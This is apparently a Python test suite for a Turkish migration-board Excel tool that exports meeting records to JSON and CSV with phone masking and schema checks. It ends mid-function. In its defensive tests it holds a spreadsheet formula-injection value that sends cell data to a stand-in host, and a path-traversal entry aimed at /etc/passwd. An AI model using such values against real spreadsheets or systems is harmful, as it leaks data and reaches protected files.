"""Platform upload files: schemas, export, KVKK masking, CSV, all-or-nothing writing, read-back."""

from __future__ import annotations

import copy
import csv
import datetime as dt
import hashlib
import io
import json
import os
import tempfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from jsonschema import Draft202012Validator, FormatChecker

from gockurul_excel import contract, example, operations, rules
from gockurul_excel.core import parse
from gockurul_excel.errors import GocKurulError
from gockurul_excel.files import platform_folder
from gockurul_excel.files.fill import fill_template, fill_workbook
from gockurul_excel.files.reader import read_workbook
from gockurul_excel.platform import bundle, codes, csvfiles
from gockurul_excel.platform import documents as documents_mod
from gockurul_excel.platform import schemas as schemas_mod

from .conftest import clean_example_rows

SCHEMA_DIR = Path(codes.__file__).parent.parent / "schemas"
KINDS = ("toplanti", "yillik_rapor", "eylem_plani", "projeler", "veri_paylasimi", "manifest")


def shipped_schema(kind: str) -> dict:
    return json.loads((SCHEMA_DIR / f"{kind}.schema.json").read_text(encoding="utf-8"))


def validate_independently(doc: dict) -> list[str]:
    """Against the file shipped in the package, with jsonschema directly (not through the platform package)."""
    validator = Draft202012Validator(shipped_schema(doc["belge_turu"]), format_checker=FormatChecker())
    return [e.message for e in validator.iter_errors(doc)]


def folder_bytes(folder: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted(folder.iterdir())}


def sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


@pytest.fixture
def book(make_book):
    return make_book()


# --- the schemas ------------------------------------------------------------------------------------


def _objects(schema: dict, path: str = ""):
    if isinstance(schema, dict):
        if schema.get("type") == "object" or "properties" in schema:
            yield path, schema
        for key, value in schema.items():
            if isinstance(value, dict) and key not in ("if", "then", "else"):  # conditions, not data
                yield from _objects(value, f"{path}/{key}")


@pytest.mark.parametrize("kind", KINDS)
def test_schema_is_2020_12_closed_and_versioned(kind):
    schema = shipped_schema(kind)
    Draft202012Validator.check_schema(schema)
    assert schema["$schema"] == "https://json-schema.org/draft/2020-12/schema"
    assert schema["$id"] == f"urn:gockurul:platform:{kind}:{codes.SCHEMA_VERSION}"
    assert schema["properties"]["sema_surumu"] == {
        "description": schema["properties"]["sema_surumu"]["description"],
        "enum": list(codes.READABLE_SCHEMA_VERSIONS),
    }
    assert codes.SCHEMA_VERSION == codes.READABLE_SCHEMA_VERSIONS[-1]  # written: the newest
    assert "yabanci_nufusu" in schema["properties"]  # 1.1: the Presidency counts the meetings owed from it
    assert schema["properties"]["belge_turu"]["const"] == kind
    for path, obj in _objects(schema):
        if path.endswith("/kayit_sayilari"):
            continue  # a map: list name -> count
        assert obj.get("additionalProperties") is False, path
        # every field always present (null if empty); `yabanci_nufusu` from sema_surumu 1.1 on
        later = {r for rule in obj.get("allOf", []) for r in rule.get("then", {}).get("required", [])}
        assert set(obj["required"]) | later == set(obj["properties"]), path
        for name, prop in obj["properties"].items():
            assert prop.get("description"), f"{path}/{name} has no Turkish description"
            if name.endswith(("tarih", "tarihi", "verilen_sure", "baslangic", "bitis")):
                assert prop.get("format") == "date", f"{path}/{name}"


def _enums(schema: dict):
    for _path, obj in _objects(schema):
        for name, prop in obj.get("properties", {}).items():
            if "enum" in prop:
                yield name, [v for v in prop["enum"] if v is not None]


def test_schema_enums_are_the_closed_lists_of_the_circular():
    lists = contract.lists()
    expected = {
        "kategori": ["alt_komisyon", "il_gkk", "ilce_gkk"],
        "tur": ["olagan", "ek"],
        "alan": [
            "egitim",
            "saglik",
            "is_gucu_piyasasi",
            "sosyal_destek",
            "bilgilendirme",
            "toplumsal_katilim",
            "kamu_duzeni",
            "kamu_guvenligi",
            "kamu_sagligi",
            "diger",
        ],  # M6(7)
        "kurul_turu": ["il", "ilce"],
        "il": list(lists["Iller"]),
        "kapsam": [codes.code(x) for x in rules.PROJECT_SCOPES],
        "baskanlik_gorusu": [codes.code(x) for x in rules.OPINIONS],
    }
    statuses = {"toplanti": rules.DECISION_STATUSES, "eylem_plani": rules.ACTION_STATUSES}
    for kind in KINDS:
        for name, values in _enums(shipped_schema(kind)):
            if name == "durum":
                options = [
                    [codes.code(x) for x in s]
                    for s in (*statuses.values(), rules.PROBLEM_STATUSES, rules.DECISION_STATUSES)
                ]
                assert values in options, (kind, values)
            elif name == "belge_turu":
                assert set(values) <= set(codes.DOCUMENT_KINDS)
            elif name == "sema_surumu":
                assert values == list(codes.READABLE_SCHEMA_VERSIONS)
            else:
                assert values == expected[name], (kind, name)
    # every code maps back to the Turkish label of the workbook's dropdown
    assert codes.label_of("is_gucu_piyasasi") == "İş Gücü Piyasası"
    assert codes.label_of("il_gkk") == rules.MeetingCategory.PROVINCE_BOARD.value
    assert codes.label_of("uygulanamadi") == "Uygulanamadı"


def test_meeting_schema_has_the_minimum_fields_of_tasarim():
    schema = shipped_schema("toplanti")
    for name in (
        "sema_surumu",
        "kategori",
        "il",
        "ilce",
        "tarih",
        "yer",
        "katilimci_sayisi",
        "konu_basliklari",
        "tespit_edilen_sorunlar",
        "cozum_onerileri",
        "onceki_kararlarin_degerlendirmesi",
        "kararlar",
        "katilimcilar",
        "yil",
        "toplanti_no",
        "tur",
        "saat",
    ):
        assert name in schema["required"]
    decision = schema["properties"]["kararlar"]["items"]
    assert {"no", "karar", "gerekce", "amac", "sorumlu_kurumlar", "verilen_sure", "durum"} <= set(decision["required"])
    person = schema["properties"]["katilimcilar"]["items"]
    assert {"sira", "kurum", "unvan", "ad_soyad", "telefon", "vekil"} == set(person["required"])


def test_format_reference_lists_every_document():
    text = schemas_mod.format_reference()
    for kind in KINDS:
        assert f"#### `{kind}`" in text
    assert "| `kararlar[].verilen_sure` | tarih (YYYY-AA-GG) |" in text
    assert "| `katilimcilar[].telefon` |" in text


# --- the example --------------------------------------------------------------------------------------


def test_every_example_document_validates_against_its_shipped_schema(book, tmp_path):
    out = tmp_path / "platform"
    result = operations.export_platform(book, out, csv=True)
    manifest = json.loads((out / "manifest.json").read_text(encoding="utf-8"))
    assert not validate_independently(manifest)
    names = [e["dosya"] for e in manifest["belgeler"]]
    meetings = [f"gaziantep-2025-toplanti-{m[0]}.json" for m in example.MEETINGS]
    assert names == [
        *meetings,
        "gaziantep-2025-yillik-rapor.json",
        "gaziantep-2025-eylem-plani.json",
        "gaziantep-2025-projeler.json",
        "gaziantep-2025-veri-paylasimi.json",
    ]
    for entry in manifest["belgeler"]:
        path = out / entry["dosya"]
        doc = json.loads(path.read_text(encoding="utf-8"))
        assert validate_independently(doc) == [], entry["dosya"]
        assert entry["sha256"] == sha(path) and entry["bayt"] == path.stat().st_size
        assert entry["sema"] == shipped_schema(doc["belge_turu"])["$id"]
        assert entry["kayit_sayilari"] == {k: len(v) for k, v in doc.items() if isinstance(v, list)}
        assert doc["kimlik"] + ".json" == entry["dosya"]
    for entry in manifest["csv_dosyalari"]:
        assert entry["sha256"] == sha(out / entry["dosya"])
    assert result.files[-1] == "manifest.json" and sorted(result.files) == sorted(p.name for p in out.iterdir())
    assert result.meeting_count == len(example.MEETINGS)


def test_example_meeting_document_carries_ek1_and_ek2(book):
    data = read_workbook(book)
    docs = documents_mod.export_documents(data)
    doc = docs["gaziantep-2025-toplanti-6.json"]
    assert (doc["kategori"], doc["tur"], doc["tarih"], doc["saat"]) == ("il_gkk", "olagan", "2025-07-16", "10:00")
    assert doc["yer"] == example.HALL and doc["il"] == "Gaziantep" and doc["ilce"] is None and doc["yil"] == 2025
    assert doc["konu_basliklari"] == example.AGENDA_TOPICS[example.BOARD]
    assert [p["no"] for p in doc["tespit_edilen_sorunlar"]] == ["8"]
    assert doc["tespit_edilen_sorunlar"][0]["alan"] == "kamu_sagligi"
    assert doc["cozum_onerileri"] == [{"sorun_no": "8", "oneri": "Mobil aşı ekipleri."}]
    # Ek-1 item 8 starts with the evaluation of earlier decisions (M5(7)): the previous board's (the extra board 4)
    # open decision 5, then the others evaluated at meeting 6
    assert [d["karar_no"] for d in doc["onceki_kararlarin_degerlendirmesi"]] == ["5", "3", "4"]
    assert [d["no"] for d in doc["kararlar"]] == ["6", "7", "8"]
    k8 = doc["kararlar"][2]
    assert k8["sorumlu_kurumlar"] == ["Çalışma ve İş Kurumu İl Müdürlüğü", "Sosyal Güvenlik İl Müdürlüğü"]
    assert k8["durum"] == "devam_ediyor"
    people = [r for r in data.records("Katılımcılar") if r["Toplantı No"] == "6"]
    assert doc["katilimci_sayisi"] == len(doc["katilimcilar"]) == len(people)
    assert [p["sira"] for p in doc["katilimcilar"]] == sorted(r["Sıra"] for r in people)
    assert any(p["vekil"] for p in doc["katilimcilar"])


def test_annual_report_document_follows_ek3(book, make_book, tmp_path):
    docs = documents_mod.export_documents(read_workbook(book))
    report = docs["gaziantep-2025-yillik-rapor.json"]
    assert [k["kategori"] for k in report["kurul_turleri"]] == ["il_gkk", "alt_komisyon", "ilce_gkk"]
    assert report["karar_ozeti"]["toplam"] == len(report["kararlar"]) == len(clean_example_rows()["Kararlar"])
    assert [d["no"] for d in report["uygulanamayan_kararlar"]] == ["6"]
    assert "8" in [p["no"] for p in report["cozulemeyen_sorunlar"]]
    assert report["beklenen_destekler"] == example.ANNUAL_TEXT[0][1]
    assert report["sonuc_degerlendirme_ve_oneriler"] == example.ANNUAL_TEXT[0][2]
    assert report["onaylayan"]["kurul_baskani"] == "Kemal Çeber"
    # no 'Yıllık Rapor' row for the year: no annual report document yet
    rows = clean_example_rows()
    rows["Yıllık Rapor"] = []
    names = documents_mod.export_documents(read_workbook(make_book(rows=rows, name="yok.xlsx")))
    assert not any("yillik-rapor" in n for n in names)


def test_example_with_its_deliberate_mistakes_still_exports(make_book, tmp_path):
    """`gockurul ornek` writes the platform files of its example: its mistakes are rule findings, not
    schema violations."""
    path = make_book(rows=example.example_rows(), name="ornek.xlsx")
    result = operations.export_platform(path, tmp_path / "p")
    assert result.meeting_count == len(example.MEETINGS)
    assert len(platform_folder.read_folder(tmp_path / "p")) == len(result.documents)


def test_district_workbook_ids_carry_the_district(make_book):
    settings = {
        contract.S_KIND: "İlçe",
        contract.S_PROVINCE: "Gaziantep",
        contract.S_DISTRICT: "İslahiye",
        contract.S_YEAR: 2026,
        contract.S_POPULATION: 2000,
        contract.S_BORDER: "Hayır",
        rules.SETTING_DISTRICT_MIGRATION_OFFICE: "Hayır",
    }
    rows = {
        "Toplantılar": [
            [
                1,
                rules.MeetingCategory.DISTRICT_BOARD.value,
                "Olağan",
                dt.date(2026, 2, 16),
                dt.date(2026, 2, 16),
                dt.time(14, 30),
                "İslahiye Kaymakamlığı Toplantı Salonu",
            ]
        ],
        "Katılımcılar": [[1, 1, "Kaymakamlık", "Kaymakam", "Şükrü Öztürk", "0342 861 10 10", "Hayır"]],
    }
    docs = documents_mod.export_documents(read_workbook(make_book(settings=settings, rows=rows)))
    assert list(docs) == [
        "gaziantep-islahiye-2026-toplanti-1.json",
        "gaziantep-islahiye-2026-eylem-plani.json",
        "gaziantep-islahiye-2026-projeler.json",
        "gaziantep-islahiye-2026-veri-paylasimi.json",
    ]
    doc = docs["gaziantep-islahiye-2026-toplanti-1.json"]
    assert (doc["kurul_turu"], doc["ilce"], doc["kategori"], doc["saat"]) == ("ilce", "İslahiye", "ilce_gkk", "14:30")
    assert doc["katilimcilar"][0]["telefon"] == "0342 *** ** 10"


def test_planned_meetings_are_not_exported(make_book):
    rows = clean_example_rows()
    rows["Toplantılar"][-1][4] = None  # meeting 9: planned, not held
    docs = documents_mod.export_documents(read_workbook(make_book(rows=rows)))
    assert "gaziantep-2025-toplanti-9.json" not in docs and "gaziantep-2025-toplanti-8.json" in docs


# --- determinism and the workbook left alone --------------------------------------------------------------


def test_reexport_is_byte_identical_and_the_workbook_unchanged(book, tmp_path):
    before = book.read_bytes()
    operations.export_platform(book, tmp_path / "a", csv=True)
    operations.export_platform(book, tmp_path / "b", csv=True)
    first = folder_bytes(tmp_path / "a")
    assert first == folder_bytes(tmp_path / "b")
    operations.export_platform(book, tmp_path / "a", csv=True)  # again into the same folder
    assert folder_bytes(tmp_path / "a") == first
    assert book.read_bytes() == before
    text = first["manifest.json"].decode("utf-8")
    assert str(dt.date.today().year) + "-" not in text.split('"uretici"')[0]  # no timestamp
    doc = first["gaziantep-2025-toplanti-1.json"]
    assert doc.endswith(b"\n") and "Çeber".encode() in doc  # UTF-8, Turkish letters as they are
    assert list(json.loads(doc)) == sorted(json.loads(doc))  # keys sorted


def test_stale_files_of_the_previous_export_are_removed_others_kept(make_book, tmp_path):
    out = tmp_path / "p"
    operations.export_platform(make_book(), out, csv=True)
    (out / "notlarim.txt").write_text("benim dosyam", encoding="utf-8")
    rows = clean_example_rows()
    rows["Toplantılar"][-1][4] = None
    result = operations.export_platform(make_book(rows=rows, name="k2.xlsx"), out)
    assert "gaziantep-2025-toplanti-9.json" in result.removed
    assert any(n.endswith(".csv") for n in result.removed)
    assert not (out / "gaziantep-2025-toplanti-9.json").exists()
    assert (out / "notlarim.txt").read_text(encoding="utf-8") == "benim dosyam"
    assert len(platform_folder.read_folder(out)) == len(result.documents)


# --- KVKK ------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("phone", "masked"),
    [
        ("0532 123 45 67", "0532 *** ** 67"),
        ("05321234567", "0532*****67"),
        ("0 (532) 123-45-67", "0 (532) ***-**-67"),
        ("0342 861 10 10", "0342 *** ** 10"),
        ("+90 532 123 45 67", "+** *** *** ** 67"),
        ("532 123 45 67", "*** *** ** 67"),
        ("dahili 1234", "dahili **34"),
        ("12", "12"),
        (None, None),
    ],
)
def test_mask_phone(phone, masked):
    assert codes.mask_phone(phone) == masked


def test_phones_masked_by_default_kept_with_personal_data(book, tmp_path):
    data = read_workbook(book)
    phones = {(r["Toplantı No"], r["Sıra"]): r["Telefon Numarası"] for r in data.records("Katılımcılar")}
    masked = operations.export_platform(book, tmp_path / "m", csv=True)
    full = operations.export_platform(book, tmp_path / "f", personal_data=True, csv=True)
    assert masked.manifest["telefon_maskeli"] is True and full.manifest["telefon_maskeli"] is False
    for name, doc in masked.documents.items():
        if doc["belge_turu"] != "toplanti":
            continue
        assert doc["telefon_maskeli"] is True and full.documents[name]["telefon_maskeli"] is False
        for p, q in zip(doc["katilimcilar"], full.documents[name]["katilimcilar"], strict=True):
            original = phones[(doc["toplanti_no"], p["sira"])]
            assert q["telefon"] == original
            assert p["telefon"] == codes.mask_phone(original) != original
            assert p["telefon"][:4] == original[:4] and p["telefon"][-2:] == original[-2:]
    # no full number anywhere in the default export, the CSV included
    everything = b"".join(folder_bytes(tmp_path / "m").values()).decode("utf-8-sig", errors="replace")
    assert not any(phone in everything for phone in phones.values())
    assert all(
        p in b"".join(folder_bytes(tmp_path / "f").values()).decode("utf-8-sig", errors="replace")
        for p in phones.values()
    )
    assert read_workbook(book).records("Katılımcılar")[0]["Telefon Numarası"] == phones[("1", 1)]


# --- CSV --------------------------------------------------------------------------------------------


def _book_with_cells(path: Path, edits: dict[tuple[str, str], str]) -> Path:
    """The clean example with some cells holding text that Excel would take for a formula."""
    wb = fill_template(example.example_settings(), clean_example_rows())
    for (sheet, ref), value in edits.items():
        cell = wb[sheet][ref]
        cell.value = value
        cell.data_type = "s"  # a text cell, as when typed with a leading apostrophe or pasted
    wb.save(path)
    return path


def read_csv(path: Path) -> list[list[str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: Excel shows Turkish letters
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=";"))


def test_csv_has_bom_semicolons_and_neutralises_formulas(tmp_path):
    hyperlink = '=HYPERLINK("http://kotu.example/?x="&A1;"Tıklayın")'
    book = _book_with_cells(
        tmp_path / "k.xlsx",
        {
            ("Katılımcılar", "E2"): hyperlink,  # Ad-Soyad of meeting 1, Sıra 1
            ("Katılımcılar", "F2"): "+90 532 123 45 67",  # Telefon Numarası
            ("Katılımcılar", "D3"): "@SUM(1+1)",  # Unvan
            ("Katılımcılar", "D4"): "-2+3",
            ("Kararlar", "C2"): "=SUM(A1:A3)",  # Alınan Karar of decision 1
        },
    )
    assert read_workbook(book).records("Katılımcılar")[0]["Ad-Soyad"] == hyperlink
    for personal, phone in ((False, "'+** *** *** ** 67"), (True, "'+90 532 123 45 67")):
        out = tmp_path / f"p{personal}"
        result = operations.export_platform(book, out, csv=True, personal_data=personal)
        rows = read_csv(out / "gaziantep-2025-katilimcilar.csv")
        assert rows[0] == ["toplanti_no", "sira", "kurum", "unvan", "ad_soyad", "telefon", "vekil"]
        assert rows[1][4] == "'" + hyperlink and rows[1][5] == phone
        assert rows[2][3] == "'@SUM(1+1)" and rows[3][3] == "'-2+3"
        assert rows[1][2] == "Valilik" and rows[1][6] == "Hayır"
        assert any("İl Milli Eğitim Müdürlüğü" in r for r in rows)
        decisions = read_csv(out / "gaziantep-2025-kararlar.csv")
        assert decisions[1][2] == "'=SUM(A1:A3)"
        # every cell of every CSV is safe
        for name in (e["dosya"] for e in result.manifest["csv_dosyalari"]):
            for row in read_csv(out / name)[1:]:
                assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in row), (name, row)
        # the JSON documents keep the text as typed (neutralising is for spreadsheets only)
        doc = result.documents["gaziantep-2025-toplanti-1.json"]
        assert doc["katilimcilar"][0]["ad_soyad"] == hyperlink


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+90 532", "'+90 532"),
        ("-5", "'-5"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("\uff1dSUM(A1)", "'\uff1dSUM(A1)"),
        ("Ayşe", "Ayşe"),
        ("a=b", "a=b"),
        ("'=x", "'=x"),
        ("", ""),
    ],
)
def test_neutralise(text, safe):
    assert csvfiles.neutralise(text) == safe


def test_csv_rows_match_the_documents(book, tmp_path):
    result = operations.export_platform(book, tmp_path / "p", csv=True)
    meetings = [d for d in result.documents.values() if d["belge_turu"] == "toplanti"]
    counts = {e["dosya"]: e["satir_sayisi"] for e in result.manifest["csv_dosyalari"]}
    assert counts["gaziantep-2025-toplantilar.csv"] == len(meetings)
    assert counts["gaziantep-2025-kararlar.csv"] == sum(len(d["kararlar"]) for d in meetings)
    assert counts["gaziantep-2025-katilimcilar.csv"] == sum(len(d["katilimcilar"]) for d in meetings)
    assert counts["gaziantep-2025-eylem-plani.csv"] == len(example.ACTIONS)
    for name, n in counts.items():
        assert len(read_csv(tmp_path / "p" / name)) == n + 1
    decisions = read_csv(tmp_path / "p" / "gaziantep-2025-kararlar.csv")
    assert decisions[1][:3] == ["1", "1", "Okul dışındaki yabancı çocuklar için kayıt kampanyası başlatılmasına"]


# --- invalid workbooks: nothing is written ------------------------------------------------------------


def _leftovers(folder: Path) -> list[str]:
    return [p.name for p in folder.iterdir() if p.name.startswith(platform_folder.TEMP_PREFIX)]


def test_invalid_meeting_writes_nothing_and_names_sheet_and_row(make_book, tmp_path):
    rows = clean_example_rows()
    for d in rows["Kararlar"]:
        if d[0] == 7:
            d[6] = "yarın"
    book = make_book(rows=rows)
    out = tmp_path / "platform"
    with pytest.raises(documents_mod.PlatformExportError) as info:
        operations.export_platform(book, out, csv=True)
    err = info.value
    decisions = read_workbook(book).records("Kararlar")
    row = next(r for r in decisions if r["Karar No"] == "7")
    assert (err.sheet, err.cell) == ("Kararlar", row.cell("Verilen Süre"))
    message = str(err)
    assert message.startswith(f"'Kararlar' sayfası, {row.cell('Verilen Süre')} hücresi: Karar 7 ({row.row}. satır)")
    assert "'Verilen Süre' (verilen_sure) tarih olmalı" in message and "'yarın'" in message
    assert "hiçbiri yazılmadı" in message
    assert not out.exists() and not _leftovers(tmp_path)


def test_invalid_workbook_leaves_a_previous_export_untouched(make_book, tmp_path):
    out = tmp_path / "platform"
    operations.export_platform(make_book(), out)
    before = folder_bytes(out)
    rows = clean_example_rows()
    rows["Katılımcılar"][0][6] = "E"  # Vekil: neither Evet nor Hayır
    rows["Toplantılar"][2][6] = None  # meeting 3 held, no place
    with pytest.raises(documents_mod.PlatformExportError) as info:
        operations.export_platform(make_book(rows=rows, name="k2.xlsx"), out)
    assert folder_bytes(out) == before and not _leftovers(tmp_path)
    problems = info.value.problems
    assert [(p.sheet, p.cell) for p in problems] == [("Katılımcılar", "G2"), ("Toplantılar", "G4")]
    assert "'Vekil' (vekil) Evet ya da Hayır olmalı; hücrede 'E' yazılı" in problems[0].message
    assert "Toplantı 3 (4. satır)" in problems[1].message and "'Yer' (yer) boş olamaz" in problems[1].message


def test_one_cell_in_several_documents_is_reported_once(make_book):
    rows = clean_example_rows()
    for d in rows["Kararlar"]:
        if d[0] == 8:
            d[7] = "Bitti"  # decision 8: meeting 6's decisions, meeting 8's evaluation, the annual report
    with pytest.raises(documents_mod.PlatformExportError) as info:
        documents_mod.export_documents(read_workbook(make_book(rows=rows)))
    assert len(info.value.problems) == 1
    assert "seçenekler: Bekliyor, Devam Ediyor, Uygulandı, Uygulanamadı" in info.value.problems[0].message


def test_settings_problem_names_the_setting(make_book):
    settings = {**example.example_settings(), contract.S_YEAR: None}
    with pytest.raises(documents_mod.PlatformExportError) as info:
        documents_mod.export_documents(read_workbook(make_book(settings=settings)))
    assert (info.value.sheet, info.value.cell) == ("Ayarlar", "B5")
    assert "'Yıl' ayarı" in str(info.value) and "boş olamaz" in str(info.value)


def test_duplicate_meeting_numbers_are_refused(make_book):
    rows = clean_example_rows()
    rows["Toplantılar"][3][0] = 3  # meeting 4 renumbered 3: two held meetings would share a file
    with pytest.raises(documents_mod.PlatformExportError) as info:
        documents_mod.export_documents(read_workbook(make_book(rows=rows)))
    assert info.value.sheet == "Toplantılar" and "gaziantep-2025-toplanti-3.json" in str(info.value)


def test_missing_sheet_is_refused(tmp_path):
    wb = fill_template(example.example_settings(), clean_example_rows())
    del wb["Katılımcılar"]
    wb.save(tmp_path / "k.xlsx")
    with pytest.raises(documents_mod.PlatformExportError) as info:
        operations.export_platform(tmp_path / "k.xlsx", tmp_path / "p")
    assert "'Katılımcılar' sayfası bulunamadı" in str(info.value) and not (tmp_path / "p").exists()


def test_failure_while_moving_files_in_restores_the_previous_set(make_book, tmp_path, monkeypatch):
    out = tmp_path / "platform"
    operations.export_platform(make_book(), out)
    before = folder_bytes(out)
    rows = clean_example_rows()
    rows["Kararlar"][0][2] = "Değişmiş karar metni"
    book = make_book(rows=rows, name="k2.xlsx")
    real = os.replace
    calls = {"n": 0}

    def flaky(src, dst):
        calls["n"] += 1
        if calls["n"] == 6:  # a few files already swapped
            raise PermissionError(13, "Permission denied", str(dst))
        return real(src, dst)

    monkeypatch.setattr(platform_folder.os, "replace", flaky)
    with pytest.raises(GocKurulError) as info:
        operations.export_platform(book, out, csv=True)
    monkeypatch.undo()
    assert "geri konuldu" in str(info.value) and "açık" in str(info.value)
    assert folder_bytes(out) == before and not _leftovers(tmp_path)
    assert len(platform_folder.read_folder(out)) == len(before) - 1


def test_failure_while_staging_leaves_no_folder(book, tmp_path, monkeypatch):
    real = platform_folder._write_file
    calls = {"n": 0}

    def flaky(path, payload, **kwargs):
        calls["n"] += 1
        if calls["n"] == 3:
            raise OSError(28, "No space left on device", str(path))
        real(path, payload, **kwargs)

    monkeypatch.setattr(platform_folder, "_write_file", flaky)
    with pytest.raises(GocKurulError, match="Hiçbir dosya yazılmadı"):
        operations.export_platform(book, tmp_path / "p")
    assert not (tmp_path / "p").exists() and not _leftovers(tmp_path)


# --- reading back ---------------------------------------------------------------------------------------


@pytest.fixture
def exported(book, tmp_path):
    out = tmp_path / "platform"
    operations.export_platform(book, out)
    return out


def _corrupt(exported: Path, change) -> Path:
    doc = json.loads((exported / "gaziantep-2025-toplanti-6.json").read_text(encoding="utf-8"))
    change(doc)
    path = exported.parent / "bozuk.json"
    path.write_text(json.dumps(doc, ensure_ascii=False), encoding="utf-8")
    return path


@pytest.mark.parametrize(
    ("change", "expected"),
    [
        (
            lambda d: d["kararlar"][2].update(verilen_sure="31.12.2025"),
            "kararlar[2].verilen_sure: YYYY-AA-GG biçiminde geçerli bir tarih olmalı (ör. 2025-03-31); "
            "bulunan: '31.12.2025'",
        ),
        (
            lambda d: d["kararlar"][0].update(durum="bitti"),
            "kararlar[0].durum: şu değerlerden biri olmalı: 'bekliyor', 'devam_ediyor', 'uygulandi', 'uygulanamadi'; "
            "bulunan: 'bitti'",
        ),
        (lambda d: d["kararlar"][1].pop("amac"), "kararlar[1].amac: zorunlu alan eksik"),
        (
            lambda d: d["katilimcilar"][0].update(tc_kimlik_no="12345678901"),
            "katilimcilar[0].tc_kimlik_no: şemada olmayan alan",
        ),
        (lambda d: d.update(katilimci_sayisi="12"), "katilimci_sayisi: tam sayı olmalı; bulunan: '12'"),
        (lambda d: d.update(tarih=None), "tarih: YYYY-AA-GG biçiminde tarih olmalı; bulunan: null"),
        (lambda d: d.update(saat="25:00"), "saat: biçimi uygun değil (beklenen: SS:DD biçiminde saat, ör. 10:00)"),
        (lambda d: d["kararlar"][0].update(sorumlu_kurumlar=[]), "kararlar[0].sorumlu_kurumlar: boş liste olamaz"),
        (lambda d: d["katilimcilar"][1].update(vekil="Evet"), "katilimcilar[1].vekil: true/false olmalı"),
        (
            lambda d: d.update(kategori="İl Göç Koordinasyon Kurulu"),
            "kategori: şu değerlerden biri olmalı: 'alt_komisyon', 'il_gkk', 'ilce_gkk'",
        ),
        (lambda d: d.update(kurul_turu="ilce"), "ilce: metin olmalı; bulunan: null"),
    ],
)
def test_corrupted_document_gives_turkish_error_with_path(exported, change, expected):
    path = _corrupt(exported, change)
    with pytest.raises(schemas_mod.DocumentError) as info:
        platform_folder.read_document(path)
    assert expected in str(info.value)
    assert str(info.value).startswith("'bozuk.json' platform belgesi şemaya uymuyor (1 sorun):")
    assert len(info.value.problems) == 1


def test_every_violation_is_listed(exported):
    def many(d):
        d["kararlar"][2]["verilen_sure"] = "yarın"
        d["katilimcilar"][3]["sira"] = 0
        d["yer"] = ""

    with pytest.raises(schemas_mod.DocumentError) as info:
        platform_folder.read_document(_corrupt(exported, many))
    assert info.value.problems == [
        "kararlar[2].verilen_sure: YYYY-AA-GG biçiminde geçerli bir tarih olmalı (ör. 2025-03-31); bulunan: 'yarın'",
        "katilimcilar[3].sira: en az 1 olmalı; bulunan: 0",
        "yer: boş olamaz",
    ]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ('{"a": ', "geçerli bir JSON değil (satır 1, sütun 7)"),
        ("[1, 2]", "bir JSON nesnesi"),
        ('{"belge_turu": "tutanak", "sema_surumu": "1.0"}', "Belge türü tanınmadı"),
        ('{"belge_turu": "toplanti", "sema_surumu": "2.0"}', "daha yeni bir şema sürümüyle (2.0)"),
        ('{"belge_turu": "toplanti"}', "'sema_surumu' null bilinmiyor"),
    ],
)
def test_unreadable_documents(tmp_path, text, expected):
    path = tmp_path / "x.json"
    path.write_text(text, encoding="utf-8")
    with pytest.raises(GocKurulError) as info:
        platform_folder.read_document(path)
    assert expected in str(info.value)


def test_read_document_returns_the_document(exported):
    doc = platform_folder.read_document(exported / "gaziantep-2025-toplanti-6.json")
    assert doc["toplanti_no"] == "6"
    assert bundle.summary(doc).startswith("Toplantı 6 (İl Göç Koordinasyon Kurulu, Gaziantep, 16.07.2025)")
    assert platform_folder.read_document(exported / "manifest.json")["belge_turu"] == "manifest"


def test_read_folder_checks_the_manifest(exported):
    docs = platform_folder.read_folder(exported)
    manifest = json.loads((exported / "manifest.json").read_text(encoding="utf-8"))
    assert [f"{d['kimlik']}.json" for d in docs] == [e["dosya"] for e in manifest["belgeler"]]
    target = exported / "gaziantep-2025-toplanti-3.json"
    target.write_bytes(target.read_bytes().replace("Gaziantep Valiliği".encode(), "Başka Yer".encode()))
    (exported / "gaziantep-2025-projeler.json").unlink()
    with pytest.raises(schemas_mod.DocumentError) as info:
        platform_folder.read_folder(exported)
    assert info.value.problems == [
        "gaziantep-2025-toplanti-3.json: SHA-256 özeti manifest.json ile uyuşmuyor — dosya dışa aktarmadan sonra "
        "değiştirilmiş ya da bozulmuş",
        "gaziantep-2025-projeler.json: dosya yok (manifest.json listeliyor)",
    ]
    (exported / "manifest.json").unlink()
    with pytest.raises(GocKurulError, match=r"manifest\.json yok"):
        platform_folder.read_folder(exported)


def test_manifest_cannot_point_outside_its_folder(exported):
    manifest = json.loads((exported / "manifest.json").read_text(encoding="utf-8"))
    manifest["belgeler"][0]["dosya"] = "../../etc/passwd.json"
    (exported / "manifest.json").write_text(json.dumps(manifest), encoding="utf-8")
    with pytest.raises(schemas_mod.DocumentError) as info:
        platform_folder.read_folder(exported)
    assert "belgeler[0].dosya: biçimi uygun değil" in str(info.value)


# --- round trip over generated workbooks -----------------------------------------------------------------

TURKISH = "abcçdefgğhıijklmnoöprsştuüvyzABCÇDEFGĞHIİJKLMNOÖPRSŞTUÜVYZâî0123456789 .,'()/:-"
words = (
    st.text(alphabet=TURKISH, min_size=1, max_size=30)
    .map(str.strip)
    .filter(lambda s: s and not s.startswith(("-", "+", "@")))
)
phones = st.one_of(
    st.none(),
    st.from_regex(r"0[2-5][0-9]{2} [0-9]{3} [0-9]{2} [0-9]{2}", fullmatch=True),
    st.from_regex(r"\+90 5[0-9]{2} [0-9]{3} [0-9]{4}", fullmatch=True),
)
YEAR = 2025


@st.composite
def workbooks(draw):
    categories = [rules.MeetingCategory.PROVINCE_BOARD.value, rules.MeetingCategory.SUBCOMMISSION.value]
    rows: dict[str, list[list]] = {"Toplantılar": [], "Kararlar": [], "Katılımcılar": [], "Gündem": []}
    decision_no = 0
    for no in range(1, draw(st.integers(1, 4)) + 1):
        days = st.dates(dt.date(YEAR, 1, 1), dt.date(YEAR, 12, 31))
        held = draw(days if no == 1 else st.one_of(st.none(), days))  # at least one held meeting
